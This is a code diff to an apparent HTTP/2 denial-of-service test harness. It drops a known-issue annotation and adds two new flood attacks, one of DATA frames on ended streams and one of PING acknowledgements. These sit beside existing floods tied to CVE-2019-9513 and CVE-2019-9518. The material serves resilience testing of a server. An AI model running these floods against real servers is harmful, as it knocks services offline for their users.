@@ -6,10 +6,6 @@ from peer import DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, WINDOW, o
 from wire import frame, message
 
 
-# What is known of frames that no limit counts: one core of the server for one of the attacker's.
-FREE = "frames that bring nothing have no budget"
-
-
 def of(bytes, count=1000):
     """The same frames over and over."""
     batch = bytes * count
@@ -57,7 +53,7 @@ def settings_wide(run):
     run.flood(of(frame(SETTINGS, payload=b"\0\4\0\1\0\0" * 2700), 10))
 
 
-@attack("PRIORITY flood", cut=2, attackers=2, known={"cut": FREE})
+@attack("PRIORITY flood", cut=2, attackers=2)
 def priority(run):
     """CVE-2019-9513: streams that do not exist change their places."""
 
@@ -71,12 +67,12 @@ def priority(run):
     run.flood(begin)
 
 
-@attack("WINDOW_UPDATE flood", cut=2, attackers=2, known={"cut": FREE})
+@attack("WINDOW_UPDATE flood", cut=2, attackers=2)
 def window_update(run):
     run.flood(of(frame(WINDOW, payload=(1).to_bytes(4, "big"))))
 
 
-@attack("empty DATA flood", cut=2, attackers=2, known={"cut": FREE})
+@attack("empty DATA flood", cut=2, attackers=2)
 def empty_data(run):
     """CVE-2019-9518: DATA without a byte uses up no window."""
     run.flood(on_an_open_call(run, lambda stream: frame(DATA, 0, stream)))
@@ -95,7 +91,7 @@ def dribble(run):
     run.calls(request(token=run.token), frames, at_once=10)
 
 
-@attack("padded DATA flood", cut=2, attackers=2, known={"cut": FREE})
+@attack("padded DATA flood", cut=2, attackers=2)
 def padded_data(run):
     """DATA that is padding only: uses up window, brings no byte of a message."""
     run.flood(on_an_open_call(run, lambda stream: frame(DATA, 8, stream, b"\xff" + bytes(255))))
@@ -111,7 +107,26 @@ def empty_headers(run):
     run.flood(begin)
 
 
-@attack("flood of unknown frames", cut=2, attackers=2, known={"cut": FREE})
+@attack("flood of unknown frames", cut=2, attackers=2)
 def unknown_frames(run):
     """Kinds that nobody has defined are to be ignored (RFC 9113, section 4.1)."""
     run.flood(of(frame(0xBB, payload=bytes(16))))
+
+
+@attack("DATA for ended calls", cut=2, attackers=2)
+def data_for_nobody(run):
+    """A call that was answered is gone; what still comes for it is passed over."""
+
+    def begin(peer):
+        stream = peer.stream()
+        peer.say(open_call(stream, request(), True))
+        peer.await_end(stream)
+        batch = frame(DATA, 0, stream, b"x") * 1000
+        return lambda: batch
+
+    run.flood(begin)
+
+
+@attack("answers to no ping", cut=2, attackers=2)
+def ping_answers(run):
+    run.flood(of(frame(PING, 1, payload=bytes(8))))
